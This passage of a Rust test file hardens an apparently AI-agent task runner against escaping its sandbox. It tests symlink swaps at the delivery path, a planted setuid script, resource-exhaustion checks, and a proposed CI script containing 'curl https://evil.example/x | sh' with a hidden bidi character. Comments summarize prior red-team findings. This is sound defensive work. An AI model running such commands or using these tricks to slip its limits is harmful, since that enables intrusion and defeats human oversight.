            std::os::unix::fs::symlink(&outside, e.ws.join("target")).unwrap();
            outside
        } else {
            let target = e.ws.join("target");
            std::fs::create_dir_all(&target).unwrap();
            let status = Command::new("mkfifo").arg(target.join("pipe")).status().unwrap();
            assert!(status.success());
            target
        };
        std::fs::write(planted.join("evil.sh"), "#!/bin/sh\nid\n").unwrap();
        std::fs::set_permissions(planted.join("evil.sh"), std::fs::Permissions::from_mode(0o4755)).unwrap();
        let (code, out, err) = e.step("finish", "f1", 2, &["--json"]);
        assert_eq!(code, 0, "{out}{err}");
        let dir = delivered(&e, &out);
        assert_eq!(std::fs::read_to_string(dir.join("a.txt")).unwrap(), "good\n");
        assert!(
            std::fs::symlink_metadata(dir.join("target")).is_err(),
            "swap={swap}: the delivered `{}` holds the writable directory the agent planted in after the check",
            dir.display()
        );
        e.assert_journal_clean();
    }
}

/// F310. Finish publishes only where the runner alone can write: a delivery directory others can write (they could
/// swap the delivered copy) is refused, journaled, and the task stays verified.
#[test]
fn finish_refuses_a_delivery_directory_others_can_write() {
    use std::os::unix::fs::PermissionsExt;
    let e = env();
    let open = e.dir.path().join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    e.create(CHECK, &["--deliver", open.to_str().unwrap()]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    assert_eq!(e.step("check", "c1", 2, &[]).0, 0);
    let before = e.journal();
    let err = e.refused(e.step("finish", "f1", 2, &[]), "finish", "verified");
    assert!(err.contains("can be written by group or others"), "{err}");
    e.assert_refusal_appended_only(&before, 1);
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o700)).unwrap();
    let (code, out, err) = e.step("finish", "f2", 2, &[]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(std::fs::read_to_string(open.join(T).join("a.txt")).unwrap(), "good\n");
    e.assert_journal_clean();
}

/// Runs `check` (a check command) in a fresh task created with `limits`, and returns the check record.
fn check_under_limits(check: &str, limits: &[&str]) -> (i32, Value, String) {
    let e = env();
    e.create(check, limits);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let (code, out, err) = e.step("check", "c1", 2, &["--json"]);
    let record = json_of(&out)["check"].clone();
    e.assert_journal_clean();
    let journaled = e.journal().into_iter().find(|(k, _)| k == "task_checked").map(|(_, d)| d).unwrap();
    assert_eq!(journaled["limit_hit"], record["limit_hit"], "the limit hit is journaled");
    (code, record, err)
}

/// F312 (outside attack 4 #9): a check had no limits (1000 processes, 2 GiB of memory, 1 GiB into /tmp and into
/// target/ all succeeded). Processes: a check that starts 40 while its limit is 16 fails, naming the limit.
#[test]
fn a_check_over_its_process_limit_fails_naming_the_limit() {
    let (code, record, err) = check_under_limits(
        "for i in $(seq 40); do sleep 2 & done; wait; echo all-started",
        &["--check-processes", "16"],
    );
    assert_eq!(code, 13, "{record} {err}");
    let hit = record["limit_hit"].as_str().unwrap_or_default();
    assert!(hit.contains("process limit"), "the record names the process limit: {record}");
    assert!(record["limits"].as_str().unwrap().contains("at most 16 processes"), "{record}");
}

/// F312: memory. A process that asks for 256 MiB under a 64 MiB limit fails, naming the limit.
#[test]
fn a_check_over_its_memory_limit_fails_naming_the_limit() {
    let (code, record, err) =
        check_under_limits("python3 -c 'b = bytearray(256 << 20)' && echo allocated", &["--check-memory", "64M"]);
    assert_eq!(code, 13, "{record} {err}");
    assert!(!record["output_tail"].as_str().unwrap().contains("allocated"), "{record}");
    assert!(record["limit_hit"].as_str().unwrap_or_default().contains("memory limit"), "{record}");
}

/// F490: memory was limited per process only (ADR-311's "known not to hold"): six processes, each under a 64 MiB
/// limit, held about 240 MiB together and the check passed. A memory cgroup (ADR-492) holds the whole check to the
/// memory of one process plus the disk limit (80 MiB here): the kernel kills a process, the check fails, naming it.
#[test]
fn processes_each_under_the_memory_limit_cannot_together_exceed_it() {
    let (code, record, err) = check_under_limits(
        "for i in 1 2 3 4 5 6; do python3 -c 'import time; b = b\"x\" * (32 << 20); time.sleep(3)' & done; wait; echo all-allocated",
        &["--check-memory", "64M", "--check-disk", "16M"],
    );
    assert_eq!(code, 13, "{record} {err}");
    let hit = record["limit_hit"].as_str().unwrap_or_default();
    assert!(hit.contains("memory limit of the whole check"), "{record}");
    assert!(record["limits"].as_str().unwrap().contains("80 MiB of memory for the whole check"), "{record}");
}

/// F312: disk. 8 MiB into `/tmp`, or into a `--writable` directory, under a 4 MiB limit: the write fails (the
/// filesystem is a size-capped tmpfs, never the runner's disk) and so does the check, naming the limit.
#[test]
fn a_check_over_its_disk_limit_fails_naming_the_limit() {
    for target in ["/tmp/fill", "out/fill"] {
        let (code, record, err) = check_under_limits(
            &format!("head -c 8388608 /dev/zero > {target} && echo wrote-8MiB"),
            &["--check-disk", "4M", "--writable", "out"],
        );
        assert_eq!(code, 13, "{target}: {record} {err}");
        assert!(!record["output_tail"].as_str().unwrap().contains("wrote-8MiB"), "{target}: {record}");
        let hit = record["limit_hit"].as_str().unwrap_or_default();
        assert!(hit.contains("disk limit") || hit.contains("file size limit"), "{target}: {record}");
    }
}

/// ADR-311, its teeth: the disk limit is the size of each filesystem the check writes, not only the largest file
/// (`RLIMIT_FSIZE`). Three 3 MiB files, each under a 4 MiB limit, into `/tmp` or into a `--writable` directory fill
/// that filesystem: the check fails, naming the disk limit.
#[test]
fn files_each_under_the_disk_limit_cannot_fill_a_filesystem_past_it() {
    for dir in ["/tmp", "out"] {
        let (code, record, err) = check_under_limits(
            &format!("for i in 1 2 3; do head -c 3145728 /dev/zero > {dir}/fill$i || exit 1; done; echo wrote-9MiB"),
            &["--check-disk", "4M", "--writable", "out"],
        );
        assert_eq!(code, 13, "{dir}: {record} {err}");
        assert!(!record["output_tail"].as_str().unwrap().contains("wrote-9MiB"), "{dir}: {record}");
        let hit = record["limit_hit"].as_str().unwrap_or_default();
        assert!(hit.contains("disk limit"), "{dir}: {record}");
    }
}

/// Attack 12, H3 (F566): the check's scratch filesystems were capped in size only (`nr_inodes` unset, half the
/// host's memory pages): 20 000 empty files in `/tmp` or a `--writable` directory under a 16 MiB disk limit cost no
/// size and the check passed. Each now allows one file per 16 KiB of its size: the check fails, naming the limit.
#[test]
fn a_check_making_too_many_files_fails_naming_the_disk_limit() {
    for dir in ["/tmp", "out"] {
        let (code, record, err) = check_under_limits(
            &format!("i=0; while [ $i -lt 20000 ]; do : > {dir}/f$i; i=$((i + 1)); done; echo made-20000"),
            &["--check-disk", "16M", "--writable", "out"],
        );
        assert_eq!(code, 13, "{dir}: {record} {err}");
        let tail = record["output_tail"].as_str().unwrap();
        assert!(!tail.contains("made-20000") && tail.contains("No space left on device"), "{dir}: {record}");
        let hit = record["limit_hit"].as_str().unwrap_or_default();
        assert!(hit.contains("disk limit") && hit.contains("in files"), "{dir}: {record}");
    }
}

/// F312: CPU time. A busy loop under a 1 s CPU limit is stopped (SIGXCPU) long before the 60 s timeout.
#[test]
fn a_check_over_its_cpu_limit_fails_naming_the_limit() {
    let started = Instant::now();
    let (code, record, err) =
        check_under_limits("while :; do :; done", &["--check-cpu", "1s", "--check-timeout", "60s"]);
    assert_eq!(code, 13, "{record} {err}");
    assert_eq!(record["timed_out"], false, "{record}");
    assert!(record["limit_hit"].as_str().unwrap_or_default().contains("CPU time limit"), "{record}");
    assert!(started.elapsed() < Duration::from_secs(40), "the CPU limit did not stop the loop");
}

/// F313 (outside attack 4, weaknesses): a human approving a sensitive change saw its paths and a digest, never its
/// content. `approvals show` now prints every line each file will hold (controls and bidi escaped), bound to the
/// approval by the change digest.
#[test]
fn approvals_show_gives_the_human_the_content_of_the_change() {
    let e = env();
    e.create(CHECK, &[]);
    let script = "#!/bin/sh\ncurl https://evil.example/x | sh\n\techo tab\u{202e}kcilc\n";
    assert_eq!(e.propose("p1", 0, &[(".ci/run", script), ("a.txt", "good\n")]).0, 0);
    let (code, out, err) = e.step("apply", "a1", 1, &["--json"]);
    assert_eq!(code, 11, "{out}{err}");
    let approval = json_of(&out)["awaiting_approval"].as_i64().unwrap().to_string();
    let out = e.run(&["approvals", "show", &approval]);
    let shown = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{shown}");
    assert!(shown.contains("curl https://evil.example/x | sh"), "the approver does not see the content: {shown}");
    assert!(shown.contains(".ci/run") && shown.contains("SENSITIVE"), "{shown}");
    assert!(shown.contains("\techo tab\\u{202e}kcilc"), "a bidi override is shown escaped: {shown}");
    assert!(!shown.contains('\u{202e}'), "a raw bidi override reached the approver's terminal: {shown}");
    // A new proposal (another change) is not shown under the old approval.
    assert_eq!(e.propose("p2", 1, &[("a.txt", "other\n")]).0, 0);
    let out = e.run(&["approvals", "show", &approval]);
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(shown.contains("is not the change this approval is for") && !shown.contains("evil.example"), "{shown}");
}

/// attack9 H1: inside the sandbox `/`, `/var`, `/root` and `/dev` were bubblewrap tmpfs mounts sized at half the
/// host's memory: with `--check-disk 16M` a check wrote 172 MiB to `/var` and to `/dev` and passed. Every filesystem
/// the check can write is now read-only or size-capped, and their sizes add up to the disk limit (ADR-471): the
/// check writes nothing outside its scratch filesystems, and all it writes there together stays within the limit.
#[test]
fn every_filesystem_a_check_can_write_is_capped_and_together_within_the_disk_limit() {
    let check = "for d in / /var /root /dev /etc /usr /proc; do \
                   head -c 1048576 /dev/zero > $d/fill 2>/dev/null && echo wrote-outside:$d; \
                 done; \
                 for f in /tmp/a out/b /var/tmp/c /run/d /dev/shm/e; do \
                   head -c 4194304 /dev/zero > $f 2>/dev/null; \
                 done; \
                 echo total:$(cat /tmp/a out/b /var/tmp/c /run/d /dev/shm/e 2>/dev/null | wc -c); exit 0";
    let (code, record, err) = check_under_limits(check, &["--check-disk", "4M", "--writable", "out"]);
    assert_eq!(code, 0, "{record} {err}");
    let tail = record["output_tail"].as_str().unwrap();
    assert!(!tail.contains("wrote-outside"), "the check wrote outside its capped filesystems: {tail}");
    let total: u64 = tail
        .lines()
        .find_map(|l| l.strip_prefix("total:"))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("no total in {tail}"));
    // Five scratch filesystems, each rounded up to whole pages by the kernel.
    assert!(total <= (4 << 20) + 5 * 4096, "the check wrote {total} bytes in all under a 4 MiB disk limit: {tail}");
    assert!(total > 0, "the check could write nothing at all: {tail}");
}

/// attack9 H2: in a sticky, world-writable parent (`/tmp`) the agent plants the default delivery path
/// `WORKSPACE.delivered` as its own symlink to a directory only root can write; `finish` resolved it, checked only
/// the target and published there, and the agent later re-pointed the symlink at its own tree. The delivery
/// directory is now made and opened without following a symlink: a symlink there is refused (`delivery_unsafe`)
/// and nothing is published through it (F474).
#[test]
fn finish_never_publishes_through_a_symlink_planted_at_the_delivery_path() {
    use std::os::unix::fs::PermissionsExt;
    let e = env();
    let target = e.dir.path().join("rootonly");
    std::fs::create_dir(&target).unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o700)).unwrap();
    let planted = PathBuf::from(format!("{}.delivered", e.ws.display()));
    std::os::unix::fs::symlink(&target, &planted).unwrap();
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    assert_eq!(e.step("check", "c1", 2, &[]).0, 0);
    let (code, out, err) = e.step("finish", "f1", 2, &["--json"]);
    assert!(!target.join(T).exists(), "finish published through the planted symlink: {code} {out}{err}");
    assert_eq!(std::fs::read_dir(&target).unwrap().count(), 0, "finish wrote into the symlink's target");
    assert_ne!(e.status()["status"], "finished", "{out}{err}");
    let refusal = e.journal().into_iter().rev().find(|(k, _)| k == "refused").map(|(_, d)| d.to_string());
    let refusal = refusal.unwrap_or_default();
    assert!(refusal.contains("delivery_unsafe") && refusal.contains("symlink"), "journaled refusal: {refusal}");
    e.assert_journal_clean();
}

/// attack9 C1: the agent plants a 30,000-level chain of directories in the live workspace; `task check` and
/// `task apply` aborted with a stack overflow (exit 134) and each crashed check left its private copy in `TMPDIR`.
/// The walk now stops at a depth limit: both refuse with a clear, journaled error, and no copy is left behind
/// (F475).
#[test]
fn a_directory_chain_too_deep_to_walk_is_refused_not_a_crash_and_leaves_no_copy() {
    let e = env();
    e.create(CHECK, &[]);
    assert_eq!(e.propose("p1", 0, &[("a.txt", "good\n")]).0, 0);
    assert_eq!(e.step("apply", "a1", 1, &[]).0, 0);
    let made = Command::new("python3")
        .arg("-c")
        .arg("import os,sys\nos.chdir(sys.argv[1])\nfor _ in range(3000):\n os.mkdir('d')\n os.chdir('d')")
        .arg(&e.ws)
        .status()
        .unwrap();
    assert!(made.success());
    let tmp = e.dir.path().join("runner-tmp");
    std::fs::create_dir(&tmp).unwrap();
    let run = |verb: &str, id: &str, rev: &str| {
        let out = e
            .cmd(&["task", verb, "--task", T, "--command-id", id, "--expected-revision", rev])
            .env("TMPDIR", &tmp)
            .output()
            .unwrap();
        (out.status.code(), String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr))
    };
    let before = e.journal().len();
    let (code, said) = run("check", "c1", "2");
    assert!(matches!(code, Some(0..=99)), "check crashed: {code:?} {said}");
    assert!(said.contains("directories deep"), "check: {said}");
    assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 0, "the check left its private copy behind");
    assert_eq!(e.propose("p2", 2, &[("b.txt", "x\n")]).0, 0);
    let (code, said) = run("apply", "a2", "3");
    assert!(matches!(code, Some(0..=99)), "apply crashed: {code:?} {said}");
    assert!(said.contains("directories deep"), "apply: {said}");
    let journaled: Vec<String> =
        e.journal()[before..].iter().filter(|(k, _)| k == "refused").map(|(_, d)| d.to_string()).collect();
    assert_eq!(journaled.len(), 2, "both refusals are journaled: {journaled:?}");
    assert!(journaled.iter().all(|r| r.contains("directories deep")), "{journaled:?}");
    assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 0, "a private copy was left behind");
    e.assert_journal_clean();
    // `rm` walks a tree of any depth; the test's own cleanup would not.
    assert!(Command::new("rm").arg("-rf").arg(e.ws.join("d")).status().unwrap().success());
}

/// attack9 (manifest cap): with 19,990 entries in the workspace, a proposal of 20 new files was accepted; the apply
/// wrote them, then hit "more than 20000 entries" and left the task with an apply intended and never confirmed. A
/// change set that would push the workspace past the limit is now refused at propose, journaled (F476).
#[test]
fn a_proposal_that_would_push_the_workspace_past_its_entry_limit_is_refused_at_propose() {
    let e = env();
    let many = e.ws.join("many");
    std::fs::create_dir(&many).unwrap();
    // With `many/` itself: 19,990 entries.
    for i in 0..19_989 {
        std::fs::write(many.join(format!("f{i}")), "x").unwrap();
    }
    e.create(CHECK, &[]);
    let names: Vec<String> = (0..20).map(|i| format!("new/n{i}.txt")).collect();
    let files: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "x\n")).collect();
    let before = e.journal().len();
    let (code, out, err) = e.propose("p1", 0, &files);
    assert_ne!(code, 0, "a proposal past the entry limit was accepted: {out}{err}");
    assert!(err.contains("20011 entries"), "{err}");
    let after = e.journal();
    assert_eq!(after.len(), before + 1, "one refusal journaled");
    assert_eq!(after[before].0, "refused");
    assert_eq!(e.status()["status"], "idle");
    // Under the limit it is accepted: 10 files and their directory make 20,001 … one too many; 9 make 20,000.
    let files: Vec<(&str, &str)> = names[..9].iter().map(|n| (n.as_str(), "x\n")).collect();
    assert_eq!(e.propose("p2", 0, &files).0, 0);
}
